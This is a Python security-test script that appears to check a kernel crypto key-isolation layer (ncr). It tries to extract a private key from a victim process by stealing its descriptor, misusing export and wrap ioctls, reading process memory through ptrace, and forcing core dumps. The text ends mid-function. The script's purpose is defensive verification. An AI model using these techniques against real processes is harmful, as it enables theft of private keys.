#!/usr/bin/env python3
"""ncr_attack.py: the application as the attacker. Tries every way a process
running as the victim's user has to get a private key that ncr holds in the
kernel, and searches everything it obtains for the key's bytes.

Usage (stable; other tests call it):

    ncr_attack.py --pid PID [--pid PID2 ...] --key KNOWN_KEY.pem
                  [--core-dir DIR] [--no-core] [--max-handle N]
    ncr_attack.py --self-test [--key KNOWN_KEY.pem] [--core-dir DIR]

  --pid PID       a process that uses the key through the ncr provider (an
                  nginx worker); run this program as that process's user.
                  The descriptor attempts use the first PID; the memory
                  search runs on every PID; the core dump (which kills the
                  process: nginx's master starts a new worker) is made of
                  the first PID only, after everything else.
  --key PEM       the private key the victim's ncr key file was made from,
                  as a plain (unencrypted) PEM/DER file that stock openssl
                  reads. It is used ONLY to derive what to search for: the
                  first 16 bytes of every secret component (RSA d, p, q, dP,
                  dQ, qInv; EC/DSA/DH/X25519 priv) in big-endian order (DER,
                  text) and little-endian order (OpenSSL BIGNUM limbs).
  --core-dir DIR  where a core dump of the process would be written (its
                  working directory when core_pattern is relative, or the
                  directory of an absolute core_pattern); the program also
                  looks in the process's cwd and the core_pattern directory,
                  and asks coredumpctl when core_pattern pipes to
                  systemd-coredump.
  --no-core       do not kill the process for a core dump (counted as "not
                  produced: skipped on request").
  --max-handle N  key handles 0..N-1 are probed (default 256).
  --self-test     the control: start a child process that holds the key in
                  its memory (it reads --key, or a P-256 key generated now by
                  openssl into a pipe, and keeps its DER), run the same
                  memory search (and core dump) against it, and exit 0 only
                  if the search FINDS the key: a pass against ncr is then
                  not vacuous.

Attempts (one line each, "[x] name: what was tried -> what happened -> what
it shows"; lines of one attempt repeat per key handle or per PID):

  [a] descriptor     pidfd_open + pidfd_getfd of the process's /dev/crypto
                     descriptor (same namespace of key handles); else a
                     /dev/crypto of our own (an empty namespace); handles
                     found with KEY_GET_INFO on 0..N-1.
  [b] export         NCRIO_KEY_EXPORT of each handle.
  [c] wrap           KEY_WRAP of each handle under an AES key of our own
                     (RFC 5649 and RFC 3394), after trying to make that key
                     a KEK; a wrap that succeeds is unwrapped in software.
  [d] key-as-data    sha256 and hmac(sha256) sessions fed the handle with
                     NCR_ATTR_UPDATE_INPUT_KEY_AS_DATA.
  [e] storage-wrap   KEY_STORAGE_WRAP of each handle, the blob searched; the
                     blob restored into a new handle and exported.
  [h] get-info       KEY_GET_INFO asking for every attribute id 0..63.
  [f] memory         PTRACE_SEIZE + interrupt, then every readable mapping of
                     /proc/PID/mem (per /proc/PID/maps) searched.
  [g] core-dump      RLIMIT_CORE raised with prlimit, SIGSEGV (then
                     SIGABRT), the core found and searched; when none can
                     be produced the reason is printed and the attempt is
                     counted as "not produced".

Exit status: 0 if no attempt obtained the key's bytes (self-test: the search
found them); 1 if any did (each printed with "LEAK"; self-test: not found);
2 on usage or setup errors. Last line:
    attacker: N attempts, 0 obtained the key[, K core dumps not produced]

Python 3 standard library only; the UAPI helpers come from test/vm/ncrio.py,
found relative to this file.
"""
import argparse
import ctypes
import errno
import os
import re
import resource
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "vm"))
import ncrio  # noqa: E402
from ncrio import ATTR, FLAG_EXPORTABLE, FLAG_WRAPPING, KEY_TYPE, OP  # noqa

DEVICE = "/dev/crypto"
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438     # the same on every arch
PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 17, 0x4206, 0x4207
WALL = 0x40000000
TYPE_NAMES = {KEY_TYPE.SECRET: "secret", KEY_TYPE.PUBLIC: "public",
              KEY_TYPE.PRIVATE: "private"}
OPENSSL = shutil.which("openssl") or "/usr/bin/openssl"

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
                        ctypes.c_void_p]


def err(e):
    """errno as NAME (text)."""
    if isinstance(e, OSError):
        e = e.errno
    return "%s (%s)" % (errno.errorcode.get(e, str(e)), os.strerror(e))


def stock_env():
    e = dict(os.environ)
    for k in ("OPENSSL_CONF", "OPENSSL_MODULES"):
        e.pop(k, None)
    return e


# ---- what to search for -----------------------------------------------------

SECRET_LABELS = {  # openssl pkey -text labels of secret numbers
    "privateExponent": "d", "prime1": "p", "prime2": "q",
    "exponent1": "dP", "exponent2": "dQ", "coefficient": "qInv",
    "priv": "priv",
}


def key_text(pem_bytes=None, path=None):
    args = [OPENSSL, "pkey", "-text", "-noout", "-passin", "pass:"]
    if path:
        args += ["-in", path]
    p = subprocess.run(args, input=pem_bytes, env=stock_env(),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=60)
    if p.returncode != 0:
        raise SystemExit2("openssl cannot read the key %s as a plain private "
                          "key: %s" % (path or "(generated)",
                                       p.stderr.decode(errors="replace")
                                       .strip()[:300]))
    return p.stdout.decode(errors="replace")


class SystemExit2(Exception):
    """Usage or setup error: exit status 2."""


def secret_components(text):
    """{name: big-endian bytes (no leading zeros)} of the secret numbers in
    `openssl pkey -text` output."""
    out, cur, hexs = {}, None, []

    def flush():
        if cur and hexs:
            b = bytes.fromhex("".join(hexs)).lstrip(b"\0")
            if b:
                out[cur] = b

    for line in text.splitlines():
        m = re.match(r"^([A-Za-z0-9]+):\s*$", line)
        if m:
            flush()
            cur, hexs = SECRET_LABELS.get(m.group(1)), []
            continue
        m = re.match(r"^\s+((?:[0-9a-fA-F]{2}:?)+)\s*$", line)
        if m and cur:
            hexs.append(m.group(1).replace(":", ""))
            continue
        flush()
        cur, hexs = None, []
    flush()
    return out


def patterns_of(components, n=16):
    """[(label, bytes)]: the first n bytes of each number big-endian and of
    its little-endian form."""
    pats = []
    for name, be in components.items():
        if len(be) < 8:
            continue
        pats.append(("%s big-endian" % name, be[:n]))
        pats.append(("%s little-endian" % name, be[::-1][:n]))
    return pats


class Searcher:
    def __init__(self, patterns):
        self.patterns = patterns
        self.overlap = max(len(p) for _, p in patterns) - 1

    def find(self, data):
        return [name for name, p in self.patterns if p in data]

    def stream(self, chunks):
        """Searches an iterable of consecutive chunks (with overlap)."""
        hits, tail = set(), b""
        for c in chunks:
            buf = tail + c
            hits.update(self.find(buf))
            tail = buf[-self.overlap:] if self.overlap else b""
        return sorted(hits)


# ---- the report -------------------------------------------------------------

class Report:
    def __init__(self):
        self.attempts = 0
        self.leaks = []
        self.not_produced = 0
        self.found = []  # self-test: searches that found the key

    def line(self, tag, name, tried, happened, shows, leak=False,
             found=False):
        """One attempt: "[tag] name: tried -> happened -> shows"."""
        self.attempts += 1
        if leak:
            self.leaks.append("[%s] %s: %s" % (tag, name, tried))
        if found:
            self.found.append(tag)
        mark = "LEAK!!! " if leak else ""
        print("%s[%s] %s: %s -> %s -> %s" % (mark, tag, name, tried, happened,
                                             shows), flush=True)

    def note(self, text):
        print("    " + text, flush=True)


R = Report()


# ---- [a] the descriptor and its handles -------------------------------------

def crypto_rdev():
    try:
        return os.stat(DEVICE).st_rdev
    except OSError:
        return None


def steal_descriptors(pid):
    """pidfd_getfd of every /dev/crypto descriptor of pid. Returns (list of
    fds, text of what happened)."""
    rdev = crypto_rdev()
    try:
        pidfd = os.pidfd_open(pid) if hasattr(os, "pidfd_open") else \
            _syscall(SYS_PIDFD_OPEN, pid, 0)
    except OSError as e:
        return [], "pidfd_open failed: %s" % err(e)
    try:
        try:
            fds = [int(f) for f in os.listdir("/proc/%d/fd" % pid)]
            listed = True
        except OSError:
            fds, listed = list(range(1024)), False
        got, first_err = [], None
        for tfd in fds:
            if listed:
                try:
                    if os.readlink("/proc/%d/fd/%d" % (pid, tfd)) != DEVICE:
                        continue
                except OSError:
                    continue
            try:
                fd = _syscall(SYS_PIDFD_GETFD, pidfd, tfd, 0)
            except OSError as e:
                if e.errno == errno.EBADF:
                    continue
                first_err = first_err or e
                if not listed:
                    break
                continue
            st = os.fstat(fd)
            if stat.S_ISCHR(st.st_mode) and st.st_rdev == rdev:
                got.append((tfd, fd))
            else:
                os.close(fd)
        if got:
            return [fd for _, fd in got], (
                "pidfd_getfd copied the process's descriptor(s) %s into this "
                "one" % ", ".join(str(t) for t, _ in got))
        if first_err:
            return [], "pidfd_getfd failed: %s" % err(first_err)
        return [], ("the process holds no /dev/crypto descriptor (listed "
                    "from /proc/%d/fd: %s)" % (pid, "yes" if listed else "no"))
    finally:
        os.close(pidfd)


def _syscall(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def find_handles(n, max_handle):
    """[(handle, info dict)] of handles that hold a key."""
    found = []
    for h in range(max_handle):
        try:
            info = n.key_get_info(h)
        except OSError:
            continue  # EINVAL: no such handle, or an empty one
        if info.get(ATTR.KEY_TYPE, KEY_TYPE.INVALID) != KEY_TYPE.INVALID:
            found.append((h, info))
    return found


def describe(h, info):
    t = TYPE_NAMES.get(info.get(ATTR.KEY_TYPE), "?")
    flags = info.get(ATTR.KEY_FLAGS, 0)
    fl = [nm for bit, nm in ((1, "exportable"), (2, "wrappable"),
                             (4, "decrypt"), (8, "sign"), (16, "wrapping"))
          if flags & bit]
    return "handle %d (%s %s key, flags %s)" % (
        h, info.get(ATTR.ALGORITHM, "?"), t, "|".join(fl) or "none")


# ---- [b] .. [e], [h]: ioctls on the handles ---------------------------------

def attempt_export(n, h, info, S):
    what = "KEY_EXPORT of %s" % describe(h, info)
    try:
        out = n.key_export(h, 16384)
    except OSError as e:
        R.line("b", "export", what, "refused with %s" % err(e),
               "a non-exportable key's bytes cannot be read back")
        return
    hits = S.find(out)
    ktype = info.get(ATTR.KEY_TYPE)
    if hits or ktype != KEY_TYPE.PUBLIC:
        R.line("b", "export", what, "SUCCEEDED, %d bytes%s" % (
            len(out), (", key bytes found: " + ", ".join(hits)) if hits
            else ""), "the kernel handed out a non-public key", leak=True)
    else:
        R.line("b", "export", what, "%d bytes, no private-key bytes in them"
               % len(out), "a public key is exportable by design; nothing "
               "secret came out")


_kek = {}


def own_aes_key(n):
    """An exportable AES-256 key of our own in the victim's namespace (we
    know its bytes), after trying to make it a KEK."""
    if "k" in _kek:
        return _kek["k"], _kek["bytes"], _kek["kek_err"]
    kb = os.urandom(32)
    k = n.key_init()
    try:
        n.key_import(k, kb, "ecb(aes)",
                     flags=FLAG_EXPORTABLE | FLAG_WRAPPING)
        kek_err = None
    except OSError as e:
        kek_err = e
        n.key_deinit(k)
        k = n.key_init()
        n.key_import(k, kb, "ecb(aes)", flags=FLAG_EXPORTABLE)
    _kek.update(k=k, bytes=kb, kek_err=kek_err)
    return k, kb, kek_err


def aes_ecb_decrypt(n, k, block):
    return n.session_once(OP.DECRYPT, "ecb(aes)", key=k, data=block)


def sw_unwrap(n, k, wrapped):
    """RFC 3394 / 5649 unwrap with our own key (the kernel's plain AES-ECB
    of an exportable key we made, as a software block cipher). Returns the
    plaintext without checking the IV (we only search it)."""
    if len(wrapped) == 16:
        pt = aes_ecb_decrypt(n, k, wrapped)
        return pt[8:]
    blocks = [wrapped[i:i + 8] for i in range(0, len(wrapped), 8)]
    a, r = blocks[0], blocks[1:]
    nb = len(r)
    for j in range(5, -1, -1):
        for i in range(nb, 0, -1):
            t = nb * j + i
            a = struct.pack(">Q", struct.unpack(">Q", a)[0] ^ t)
            b = aes_ecb_decrypt(n, k, a + r[i - 1])
            a, r[i - 1] = b[:8], b[8:]
    return b"".join(r)


def attempt_wrap(n, h, info, S):
    k, _, kek_err = own_aes_key(n)
    kek_txt = ("making it a KEK (NCR_KEY_FLAG_WRAPPING) was refused with %s"
               % err(kek_err)) if kek_err else \
        "it was even accepted as a KEK (WRAPPING flag)"
    for walg in (ncrio.WALG_AES_RFC5649, ncrio.WALG_AES_RFC3394):
        what = "KEY_WRAP of %s under my own AES-256 key (%s; %s)" % (
            describe(h, info), walg, kek_txt)
        try:
            out = n.key_wrap(k, h, algo=walg, size=16384)
        except OSError as e:
            R.line("c", "wrap", what, "refused with %s" % err(e),
                   "a key of the application's own cannot carry the key "
                   "out of the kernel")
            continue
        try:
            pt = sw_unwrap(n, k, out)
        except OSError as e:
            pt = b""
            R.note("(software unwrap failed: %s)" % err(e))
        hits = S.find(pt) + S.find(out)
        R.line("c", "wrap", what, "SUCCEEDED (%d bytes); unwrapped with my "
               "own key: %s" % (len(out), ("key bytes found: " +
                                           ", ".join(hits)) if hits else
                                "no key bytes found"),
               "the wrap should have been refused: the application can "
               "decrypt what it wraps under its own key",
               leak=bool(hits) or info.get(ATTR.KEY_TYPE) == KEY_TYPE.PRIVATE)


def attempt_key_as_data(n, h, info, S):
    ktype = info.get(ATTR.KEY_TYPE)
    k, _, _ = own_aes_key(n)
    for algo, key in (("sha256", None), ("hmac(sha256)", k)):
        what = ("a %s session fed %s with UPDATE_INPUT_KEY_AS_DATA"
                % (algo, describe(h, info)))
        try:
            out = n.session_once(OP.SIGN, algo, key=key, key_as_data=h,
                                 final_out_size=64)
        except OSError as e:
            R.line("d", "key-as-data", what, "refused with %s" % err(e),
                   "a private key's bytes never enter a hash the "
                   "application can read" if ktype == KEY_TYPE.PRIVATE else
                   "the key's bytes are not hashed for the application")
            continue
        hits = S.find(out)
        if ktype == KEY_TYPE.PRIVATE or hits:
            R.line("d", "key-as-data", what, "SUCCEEDED: %s" % out.hex(),
                   "the kernel hashed private-key material for the "
                   "application (an oracle on the key; docs/security.md "
                   "says this is refused)%s" % (
                       (": key bytes found " + ", ".join(hits)) if hits
                       else ""), leak=True)
        else:
            R.line("d", "key-as-data", what, "a %d-byte digest, no key bytes "
                   "in it" % len(out), "a secret key may be hashed by "
                   "design; the digest does not give its bytes")


def attempt_storage_wrap(n, h, info, S):
    what = "KEY_STORAGE_WRAP of %s" % describe(h, info)
    try:
        blob = n.storage_wrap(h, size=16384)
    except OSError as e:
        R.line("e", "storage-wrap", what, "refused with %s" % err(e),
               "the key cannot even be put into a blob")
        return
    hits = S.find(blob)
    if hits:
        R.line("e", "storage-wrap", what, "a %d-byte blob holding key bytes: "
               "%s" % (len(blob), ", ".join(hits)),
               "the blob carries the key in clear", leak=True)
        return
    # the blob restored into a new handle keeps the flags: export it
    r = n.key_init()
    try:
        n.storage_unwrap(r, blob)
        try:
            out = n.key_export(r, 16384)
            ex = "exported %d bytes%s" % (len(out), (
                ", key bytes found: " + ", ".join(S.find(out)))
                if S.find(out) else "")
            leak = (bool(S.find(out)) or
                    info.get(ATTR.KEY_TYPE) != KEY_TYPE.PUBLIC)
        except OSError as e:
            ex, leak = "its export refused with %s" % err(e), False
    except OSError as e:
        ex, leak = "restoring it failed with %s" % err(e), False
    finally:
        n.key_deinit(r)
    R.line("e", "storage-wrap", what, "a %d-byte blob with no key bytes in "
           "it; restored into a new handle, %s" % (len(blob), ex),
           "the blob is encrypted under the master key, which no ioctl "
           "returns, and restoring it keeps the key non-exportable"
           if not leak else "the restored key could be exported",
           leak=leak)


def attempt_get_info(n, h, info, S):
    what = ("KEY_GET_INFO of %s asking for every attribute id 0..63"
            % describe(h, info))
    try:
        outs = []
        for ids in (range(0, 32), range(32, 64)):
            a = ncrio.encode(ATTR.WANTED_ATTRS,
                             struct.pack("=32H", *ids))
            _, out, _ = n.call("KEY_GET_INFO", ncrio.key_get_info(key=h), a,
                               8192)
            outs.append(out)
        out = b"".join(outs)
    except OSError as e:
        R.line("h", "get-info", what, "refused with %s" % err(e),
               "no key data comes back")
        return
    hits = S.find(out)
    got = sorted({t for t, _ in ncrio.parse_attrs(outs[0]) +
                  ncrio.parse_attrs(outs[1])})
    R.line("h", "get-info", what, "%d bytes back, attributes %s; %s" % (
        len(out), got, ("key bytes found: " + ", ".join(hits)) if hits
        else "no key bytes in them"),
           "only the algorithm, flags, type, id (and curve) are told"
           if not hits else "KEY_GET_INFO gives the key away", leak=bool(hits))


# ---- [f] memory through ptrace ----------------------------------------------

def read_mem(pid):
    """Yields the chunks of every readable mapping, and sets the stats."""
    st = {"regions": 0, "read": 0, "failed": 0, "bytes": 0, "errors": set()}

    def gen():
        with open("/proc/%d/maps" % pid) as f:
            maps = f.read().splitlines()
        fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
        try:
            for line in maps:
                parts = line.split()
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                if parts[1][0] != "r":
                    continue
                st["regions"] += 1
                ok = False
                off = lo
                while off < hi:
                    size = min(4 << 20, hi - off)
                    try:
                        data = os.pread(fd, size, off)
                    except OSError as e:
                        st["errors"].add(errno.errorcode.get(e.errno, "?"))
                        break
                    if not data:
                        break
                    ok = True
                    st["bytes"] += len(data)
                    yield data
                    off += len(data)
                st["read" if ok else "failed"] += 1
                yield b""  # a gap: regions are searched separately
        finally:
            os.close(fd)
    return gen(), st


def search_regions(chunks, S):
    """Like Searcher.stream but restarts the overlap at each b"" marker."""
    hits, tail = set(), b""
    for c in chunks:
        if not c:
            tail = b""
            continue
        buf = tail + c
        hits.update(S.find(buf))
        tail = buf[-S.overlap:]
    return sorted(hits)


def attempt_memory(pid, S, expect_found=False):
    what = "PTRACE_SEIZE of pid %d and a read of every readable mapping " \
           "of /proc/%d/mem" % (pid, pid)
    attached = stopped = False
    r = libc.ptrace(PTRACE_SEIZE, pid, None, None)
    if r == 0:
        attached = True
        if libc.ptrace(PTRACE_INTERRUPT, pid, None, None) == 0:
            end = time.monotonic() + 10
            while time.monotonic() < end:
                try:
                    wp, _ = os.waitpid(pid, os.WNOHANG | WALL)
                except ChildProcessError:
                    break
                if wp == pid:
                    stopped = True
                    break
                time.sleep(0.05)
        how = "attached and stopped it" if stopped else "attached"
    else:
        how = "ptrace refused with %s" % err(ctypes.get_errno())
    try:
        chunks, st = read_mem(pid)
        hits = search_regions(chunks, S)
        readtxt = "read %d of %d readable mappings, %.1f MiB%s" % (
            st["read"], st["regions"], st["bytes"] / 1048576.0,
            (" (%d unreadable: %s)" % (st["failed"],
                                       ",".join(sorted(st["errors"]))))
            if st["failed"] else "")
        ok = True
    except OSError as e:
        hits, ok = [], False
        readtxt = "opening its memory failed with %s" % err(e)
    finally:
        if attached:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    happened = "%s; %s; %s" % (how, readtxt, (
        "KEY BYTES FOUND: " + ", ".join(hits)) if hits else
        "the key's bytes are not there")
    if hits:
        shows = ("the process holds the private key in its memory" +
                 (" (expected: this is the control)" if expect_found else ""))
    elif ok:
        shows = "the key is not in the process's memory: ptrace gets nothing"
    else:
        shows = "the process's memory cannot even be read by its own user " \
                "(not dumpable, or Yama): nothing to get this way"
    R.line("f", "memory", what, happened, shows,
           leak=bool(hits) and not expect_found, found=bool(hits))
    return hits


# ---- [g] a core dump --------------------------------------------------------

def read_sys(path):
    try:
        with open(path) as f:
            return f.read().strip()
    except OSError as e:
        return "<%s>" % err(e)


def proc_gone(pid, child):
    if child is not None:
        r = child.poll()
        return r is not None
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except OSError:
        return True


def attempt_core(pid, S, core_dir, child=None, expect_found=False):
    what = "a core dump of pid %d (RLIMIT_CORE raised with prlimit, " \
           "SIGSEGV)" % pid
    pattern = read_sys("/proc/sys/kernel/core_pattern")
    uses_pid = read_sys("/proc/sys/kernel/core_uses_pid")

    def not_produced(why):
        R.not_produced += 1
        R.line("g", "core-dump", what, "no core: " + why,
               "not produced (counted separately): nothing to search")

    try:
        cwd = os.readlink("/proc/%d/cwd" % pid)
    except OSError as e:
        cwd = None
        cwd_err = err(e)
    try:
        soft, hard = resource.prlimit(pid, resource.RLIMIT_CORE)
        if hard == 0:
            return not_produced("its hard RLIMIT_CORE is 0 and raising it "
                                "needs CAP_SYS_RESOURCE")
        resource.prlimit(pid, resource.RLIMIT_CORE, (hard, hard))
    except OSError as e:
        return not_produced("prlimit on it failed with %s" % err(e))
    if pattern.startswith("|"):
        sink = "pipe"
        if "systemd-coredump" not in pattern or not shutil.which(
                "coredumpctl"):
            return not_produced(
                "core_pattern pipes cores to %s, which keeps them where "
                "this user cannot read them (not killing the process)"
                % pattern.split()[0][1:])
        dirs = []
    else:
        sink = "file"
        dirs = []
        if core_dir:
            dirs.append(core_dir)
        if pattern.startswith("/"):
            dirs.append(os.path.dirname(pattern))
        elif cwd:
            dirs.append(os.path.join(cwd, os.path.dirname(pattern)))
        if not dirs:
            return not_produced("its working directory is unknown (%s) and "
                                "no --core-dir was given" % cwd_err)
        dirs = list(dict.fromkeys(os.path.normpath(d) for d in dirs))
        prefix = os.path.basename(pattern).split("%", 1)[0] or "core"
        before = {}
        for d in dirs:
            try:
                for f in os.listdir(d):
                    p = os.path.join(d, f)
                    before[p] = os.stat(p).st_mtime_ns
            except OSError:
                pass
    t0 = time.time()
    sigs = []
    for sig in (signal.SIGSEGV, signal.SIGABRT):
        try:
            os.kill(pid, sig)
        except OSError as e:
            return not_produced("kill(%s) failed with %s" % (sig.name,
                                                            err(e)))
        sigs.append(sig.name)
        end = time.monotonic() + 30
        while time.monotonic() < end and not proc_gone(pid, child):
            time.sleep(0.1)
        if proc_gone(pid, child):
            break
    if not proc_gone(pid, child):
        return not_produced("the process survived %s" % " and ".join(sigs))
    dumped = None
    if child is not None:
        rc = child.returncode
        dumped = rc < 0  # the status itself says nothing of WCOREDUMP here
    core = None
    tmp = None
    if sink == "pipe":
        tmp = tempfile.NamedTemporaryFile(prefix="ncr-attack-core.",
                                          delete=False)
        tmp.close()
        end = time.monotonic() + 60
        while time.monotonic() < end:
            p = subprocess.run(["coredumpctl", "--no-pager", "-q", "dump",
                                str(pid), "-o", tmp.name],
                               stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, timeout=120)
            if p.returncode == 0 and os.path.getsize(tmp.name) > 0:
                core = tmp.name
                break
            time.sleep(2)
        if not core:
            os.unlink(tmp.name)
            return not_produced(
                "the process died of %s but coredumpctl dump %d gave no core "
                "to this user (%s)" % (sigs[-1], pid,
                                       p.stderr.decode(errors="replace")
                                       .strip()[:200]))
    else:
        end = time.monotonic() + 60
        last = None
        while time.monotonic() < end:
            cands = []
            for d in dirs:
                try:
                    names = os.listdir(d)
                except OSError:
                    continue
                for f in names:
                    if not f.startswith(prefix):
                        continue
                    p = os.path.join(d, f)
                    try:
                        s = os.stat(p)
                    except OSError:
                        continue
                    if stat.S_ISREG(s.st_mode) and (
                            before.get(p) != s.st_mtime_ns) and \
                            s.st_mtime >= t0 - 2:
                        cands.append((s.st_mtime_ns, p, s.st_size))
            if cands:
                cands.sort()
                cur = cands[-1]
                if last and last[1] == cur[1] and last[2] == cur[2] and \
                        cur[2] > 0:
                    core = cur[1]
                    break
                last = cur
            time.sleep(0.5)
        if not core:
            writable = [d for d in dirs if os.access(d, os.W_OK)]
            return not_produced(
                "the process died of %s but no new %s* file appeared in %s "
                "(core_pattern %r, core_uses_pid %s; %s; the kernel writes "
                "no core of a process that is not dumpable)" % (
                    sigs[-1], prefix, ", ".join(dirs), pattern, uses_pid,
                    ("writable by this user: " + ", ".join(writable))
                    if writable else "none of them writable by this user"))
    try:
        size = os.path.getsize(core)
        with open(core, "rb") as f:
            hits = S.stream(iter(lambda: f.read(4 << 20), b""))
    except OSError as e:
        return not_produced("the core %s cannot be read: %s" % (core, err(e)))
    finally:
        if tmp is not None:
            try:
                os.unlink(tmp.name)
            except OSError:
                pass
    happened = "killed by %s, core %s (%.1f MiB) searched: %s" % (
        sigs[-1], core, size / 1048576.0,
        ("KEY BYTES FOUND: " + ", ".join(hits)) if hits else
        "the key's bytes are not there")
    if dumped is False:
        happened += " (the child was not killed by a signal?)"
    shows = ("the key is in a core dump of the process" +
             (" (expected: this is the control)" if expect_found else "")) \
        if hits else "a core dump of the process holds no key"
    R.line("g", "core-dump", what, happened, shows,
           leak=bool(hits) and not expect_found, found=bool(hits))
    return hits


# ---- the runs ---------------------------------------------------------------

def run_attack(args, S):
    pids = args.pid
    print("attacker: uid %d euid %d, target pid(s) %s; Yama ptrace_scope %s; "
          "core_pattern %r" % (os.getuid(), os.geteuid(),
                               ", ".join(map(str, pids)),
                               read_sys("/proc/sys/kernel/yama/ptrace_scope"),
                               read_sys("/proc/sys/kernel/core_pattern")),
          flush=True)
    for pid in pids:
        if not os.path.exists("/proc/%d" % pid):
            raise SystemExit2("no process %d" % pid)
    fds, how = steal_descriptors(pids[0])
    stolen = bool(fds)
    if fds:
        R.line("a", "descriptor", "pidfd_open(%d) + pidfd_getfd" % pids[0],
               how, "the attacker now holds the victim's own key namespace "
               "(every handle it holds)")
    else:
        try:
            fds = [os.open(DEVICE, os.O_RDWR)]
            own = "opened %s itself instead (a fresh, empty namespace: the " \
                  "victim's handles are not in it)" % DEVICE
        except OSError as e:
            own = "and opening %s itself failed too: %s" % (DEVICE, err(e))
        R.line("a", "descriptor", "pidfd_open(%d) + pidfd_getfd" % pids[0],
               how + "; " + own, "the victim's key handles are out of this "
               "user's reach this way")
    def nothing_to_try(why):
        R.line("b", "export", "KEY_EXPORT", why,
               "nothing to export in this namespace")
        R.line("c", "wrap", "KEY_WRAP", why,
               "nothing to wrap in this namespace")
        R.line("d", "key-as-data", "UPDATE_INPUT_KEY_AS_DATA", why,
               "nothing to hash")
        R.line("e", "storage-wrap", "KEY_STORAGE_WRAP", why,
               "nothing to wrap")
        R.line("h", "get-info", "KEY_GET_INFO of every attribute", why,
               "nothing to ask about")

    if not fds:
        nothing_to_try("no descriptor to try them on")
    for fd in fds:
        n = ncrio.Ncr(fd=fd)
        try:
            handles = find_handles(n, args.max_handle)
            R.line("a", "descriptor", "KEY_GET_INFO on handles 0..%d "
                   "through %s (fd %d here)" % (
                       args.max_handle - 1, "the copied descriptor" if stolen
                       else "our own descriptor", fd),
                   "%d key(s): %s" % (len(handles), "; ".join(
                       describe(h, i) for h, i in handles) or "none"),
                   "these are the handles to attack")
            if not handles:
                nothing_to_try("no key handle to try")
            for h, info in handles:
                attempt_export(n, h, info, S)
            for h, info in handles:
                attempt_wrap(n, h, info, S)
            for h, info in handles:
                attempt_key_as_data(n, h, info, S)
            for h, info in handles:
                attempt_storage_wrap(n, h, info, S)
            for h, info in handles:
                attempt_get_info(n, h, info, S)
        finally:
            if "k" in _kek:
                try:
                    n.key_deinit(_kek.pop("k"))
                except OSError:
                    pass
            _kek.clear()
            n.close()
    for pid in pids:
        attempt_memory(pid, S)
    if args.no_core:
        R.not_produced += 1
        R.line("g", "core-dump", "a core dump of pid %d" % pids[0],
               "not attempted (--no-core)", "not produced: skipped on request")
    else:
        attempt_core(pids[0], S, args.core_dir)
    print("attacker: %d attempts, %d obtained the key%s" % (
        R.attempts, len(R.leaks), (", %d core dumps not produced" %
                                   R.not_produced) if R.not_produced else ""))
    if R.leaks:
        print("!!! LEAKS: the key's bytes (or key-dependent output) came out "
              "of: " + "; ".join(R.leaks))
        return 1
    return 0


CHILD = r"""
import base64, os, sys
# the control victim: holds the key file's DER (and PEM text) in memory
pem = sys.stdin.buffer.read() if sys.argv[1] == '-' else \
    open(sys.argv[1], 'rb').read()
b64 = b''.join(l for l in pem.splitlines() if l and not l.startswith(b'-'))
der = bytearray(base64.b64decode(b64))
sys.stdout.write('ready\n'); sys.stdout.flush()
os.close(1)
import time
while True:
    time.sleep(60)
"""


def run_self_test(args, S, pem):
    print("self-test: a child process holds the key in its memory; the same "
          "searches must find it", flush=True)
    cdir = args.core_dir or tempfile.mkdtemp(prefix="ncr-attack-self.")
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD,
         os.path.abspath(args.key) if args.key else "-"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=cdir)
    try:
        if not args.key:
            child.stdin.write(pem)
        child.stdin.close()
        if child.stdout.readline().strip() != b"ready":
            raise SystemExit2("the control child did not start")
        f = attempt_memory(child.pid, S, expect_found=True)
        if args.no_core:
            R.not_produced += 1
            g = None
        else:
            g = attempt_core(child.pid, S, cdir, child=child,
                             expect_found=True)
    finally:
        if child.poll() is None:
            child.kill()
        child.wait()
        if not args.core_dir:
            shutil.rmtree(cdir, ignore_errors=True)
    ok = bool(f) and (g is None or bool(g))
    print("self-test: %d attempts, the search %s (memory: %s; core: %s)" % (
        R.attempts, "FOUND the key: a pass against ncr is not vacuous" if ok
        else "DID NOT find the key where it is: the search is broken",
        "found" if f else "not found",
        "not produced" if g is None else ("found" if g else "not found")))
    return 0 if ok else 1


def main(argv=None):
    ap = argparse.ArgumentParser(
        description="Try to get an ncr-held private key as the application's "
                    "own user (see the file header).")
    ap.add_argument("--pid", type=int, action="append", default=[])
    ap.add_argument("--key")
    ap.add_argument("--core-dir")
    ap.add_argument("--no-core", action="store_true")
    ap.add_argument("--max-handle", type=int, default=256)
    ap.add_argument("--self-test", action="store_true")
    args = ap.parse_args(argv)
    try:
        if not args.self_test and (not args.pid or not args.key):
            raise SystemExit2("--pid and --key are needed (or --self-test)")
        pem = None
        if args.key:
            if not os.path.isfile(args.key):
                raise SystemExit2("no key file %s" % args.key)
            text = key_text(path=args.key)
        else:
            p = subprocess.run([OPENSSL, "genpkey", "-algorithm", "EC",
                                "-pkeyopt", "ec_paramgen_curve:P-256"],
                               env=stock_env(), stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=60)
            if p.returncode != 0:
                raise SystemExit2("openssl genpkey failed: %s" %
                                  p.stderr.decode(errors="replace"))
            pem = p.stdout
            text = key_text(pem_bytes=pem)
        comps = secret_components(text)
        if not comps:
            raise SystemExit2("no secret numbers found in the key (is it a "
                              "private key?)")
        pats = patterns_of(comps)
        S = Searcher(pats)
